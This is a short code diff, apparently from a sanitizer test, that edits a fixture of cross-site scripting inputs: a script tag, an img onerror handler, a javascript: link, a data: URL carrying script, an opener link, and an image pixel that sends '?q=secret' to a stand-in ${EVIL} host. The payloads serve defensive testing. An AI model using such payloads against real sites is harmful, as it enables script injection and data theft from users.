@@ -10,8 +10,10 @@ const text = `Common ground, and this:
 
 <script>window.hacked = "script"</script>
 <img src="${EVIL}/a.png" onerror="window.hacked='onerror'">
+
 ![pixel](${EVIL}/pixel.png?q=secret)
-[click me](javascript:window.hacked='link')
+[harmless](https://example.org/) [click me](javascript:window.hacked='link')
+
 <a href="data:text/html,<script>alert(1)</script>" onclick="window.hacked='onclick'">data</a>
 <a href="https://example.org/" target="_self" rel="opener">self</a>
 
